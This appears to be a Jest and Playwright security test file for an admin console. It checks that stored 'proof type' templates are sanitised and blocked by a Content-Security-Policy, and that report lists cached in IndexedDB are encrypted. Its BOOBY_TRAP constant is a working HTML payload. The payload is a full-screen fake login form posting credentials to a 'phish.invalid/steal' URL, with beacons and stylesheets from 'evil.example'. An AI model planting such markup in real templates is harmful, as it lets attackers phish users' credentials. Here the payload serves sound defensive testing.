import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { area as turboArea } from 'remote-turbo/area';
import { connectDatabase, proofTypes } from 'api/testing';
import { launchBrowser, newPage, pageTitle } from './support/browser';
import { logIn } from './support/logIn';
import { runServer } from './support/runServer';
import { ADMIN, startServer, stopServer, type RunningServer } from './support/server';
import { createUser } from './support/users';
import { sampleReport } from '@console/contract/testing';
import { todayInKolkata } from '@console/contract/time';

// The project's testTimeout does not reach tests run through the root's `projects` (a global option).
jest.setTimeout(90_000);

/** The proof type an attacker with only prooftype_create stored (issue 12, finding 5), and friends. */
const BOOBY_TRAP =
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">' +
  '<h1>Session expired</h1><form action="http://phish.invalid/steal" method="post">' +
  '<input name="username"><input name="password" type="password"><button>Log in again</button></form></div>' +
  '<img src="https://evil.example/beacon.png"><link rel="stylesheet" href="https://evil.example/look.css">' +
  '<style>@import url(https://evil.example/x.css); body { visibility: hidden }</style>' +
  '<p style="background-image:url(https://evil.example/bg.png)">Dear {user}</p>';

/** Stores a template as it is, bypassing the API: as an older version or a restore might have left it. */
async function storeUnsanitised(type: string, content: string): Promise<void> {
  const { dataDir, pgPort } = runServer();
  const password = readFileSync(path.join(dataDir, 'pg-password'), 'utf8').trim();
  const connection = connectDatabase(
    `postgres://postgres:${encodeURIComponent(password)}@127.0.0.1:${pgPort}/console`,
    console,
  );
  try {
    await connection.db.insert(proofTypes).values({ area: 'turbo', type, content });
  } finally {
    await connection.close();
  }
}

/** Every request the page makes to a host other than the console's own. */
function foreignRequests(page: Page, base: string): string[] {
  const seen: string[] = [];
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (!['data:', 'blob:'].includes(url.protocol) && url.origin !== new URL(base).origin) seen.push(request.url());
  });
  return seen;
}

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

describe('a booby-trapped proof type', () => {
  it('cannot paint over the console or reach another host, whether stored through the API or not', async () => {
    const base = runServer().url;
    // Through the API, by someone holding only prooftype_create: the server stores it sanitised.
    const author = { username: 'trapsetter', email: 'trapsetter@example.com', password: 'Trap-Setter-Password-1' };
    await createUser({ ...author, role: 'user', section: ['Turbo'], permissions: ['prooftype_create'] });
    const login = await fetch(`${base}/api/admin/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ username: author.username, password: author.password }),
    });
    const { token } = (await login.json()) as { token: string };
    const created = await fetch(`${base}/api${turboArea.prooftype.apiBase}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify({ type: 'Trap via API', content: BOOBY_TRAP }),
    });
    expect(created.status).toBe(201);
    const stored = ((await created.json()) as { proof: { content: string } }).proof.content;
    expect(stored).not.toMatch(/<form|<input|<style|<link|position|evil\.example|phish/);
    // And straight into the database: the browser must neutralise it on its own.
    await storeUnsanitised('Trap in the database', BOOBY_TRAP);

    const { context, page } = await newPage(browser);
    const foreign = foreignRequests(page, base);
    await logIn(page, ADMIN.username, ADMIN.password);
    await page.goto('/prooftype');
    const title = pageTitle(page, turboArea.prooftype.title);
    await title.waitFor();
    await page.getByRole('row').filter({ hasText: 'Trap in the database' }).waitFor();
    await page.getByRole('row').filter({ hasText: 'Trap via API' }).waitFor();

    // Nothing of the trap is on the page to be filled in, and the console stays on top and usable.
    expect(await page.locator('form[action*="phish"], input[name="password"], input[name="username"]').count()).toBe(0);
    expect(await page.evaluate(() => getComputedStyle(document.body).visibility)).toBe('visible');
    await title.click({ trial: true });
    await page.getByRole('navigation').getByRole('link', { name: 'Attendance' }).click({ trial: true });

    // The preview shows the template in the console's own dialog, just as harmless.
    await page.getByRole('button', { name: 'Preview Trap in the database' }).click();
    const dialog = page.getByRole('dialog', { name: 'Trap in the database' });
    await dialog.getByText('Dear {user}').waitFor();
    expect(await dialog.locator('form, input, style, link, [style*="position"]').count()).toBe(0);
    await dialog.getByRole('button', { name: 'Close' }).click({ trial: true });

    expect(foreign).toEqual([]);
    await context.close();
  });

  it('is served under a Content-Security-Policy that would stop a beacon or a form anyway', async () => {
    const response = await fetch(`${runServer().url}/prooftype`);
    const policy = response.headers.get('content-security-policy') ?? '';
    expect(policy).toContain("img-src 'self' data: blob:");
    expect(policy).toContain("form-action 'self'");
    expect(policy).toContain("frame-ancestors 'none'");
  });
});

describe('the report list kept in the browser', () => {
  // A console of its own: the report it adds must not appear in the shared server's (empty) Turbo list.
  let own: RunningServer | undefined;
  beforeAll(async () => {
    const { child, ...server } = await startServer({ APPS_DIR: runServer().appsDir });
    child.unref();
    own = server;
  });
  afterAll(async () => {
    if (own) await stopServer(own.pid, own.dataDir);
  });

  it('holds nothing readable in IndexedDB, and a reload still uses it after the server’s 304', async () => {
    const base = own!.url;
    const login = await fetch(`${base}/api/admin/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ username: ADMIN.username, password: ADMIN.password }),
    });
    const { token } = (await login.json()) as { token: string };
    const userName = 'sealed-list-punter';
    const { _id, recordAddBy, ...body } = sampleReport({ userName, date: todayInKolkata() });
    const created = await fetch(`${base}/api${turboArea.report.apiBase}/create`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify(body),
    });
    expect(created.status).toBe(201);

    const { context, page } = await newPage(browser, base);
    await logIn(page, ADMIN.username, ADMIN.password);
    await page.goto(`${base}${turboArea.report.route}`);
    await pageTitle(page, turboArea.report.title).waitFor();
    await page.getByRole('table').locator('tfoot:not([aria-busy])').waitFor();

    // The whole list has reached the page's worker (the table is answered by it), and is kept.
    await page.locator('[data-engine="browser"]').waitFor();
    // What anyone opening this browser profile finds: every byte of the kept records, as text.
    const readKept = () =>
      page.evaluate(
        () =>
          new Promise<string | null>((resolve) => {
            const request = indexedDB.open('console-report-lists');
            request.onerror = () => resolve(null);
            request.onsuccess = () => {
              const db = request.result;
              if (!db.objectStoreNames.contains('lists')) return resolve(null);
              const all = db.transaction('lists').objectStore('lists').getAll();
              all.onsuccess = () => {
                db.close();
                const text = JSON.stringify(all.result, (_key, value: unknown) =>
                  value instanceof ArrayBuffer || ArrayBuffer.isView(value)
                    ? new TextDecoder('latin1').decode(value)
                    : value,
                );
                resolve(all.result.length ? text : null);
              };
            };
          }),
      );
    let text = await readKept();
    // The copy is written just after the worker indexes it: read again until it is there.
    for (const deadline = Date.now() + 20_000; text === null && Date.now() < deadline;) text = await readKept();
    if (text === null) throw new Error('the report list was never kept in IndexedDB');
    expect(text).toContain('AES-GCM-256');
    expect(text).not.toContain(userName);

    // The sealed copy opens with the live session's key: a reload is answered 304 and shows the list.
    const columns = page.waitForResponse((response) => response.url().includes('/columns'));
    await page.reload();
    expect((await columns).status()).toBe(304);
    await page.getByRole('searchbox', { name: 'Search reports' }).fill(userName);
    await page.getByRole('cell', { name: userName, exact: true }).waitFor();
    await context.close();
  });
});
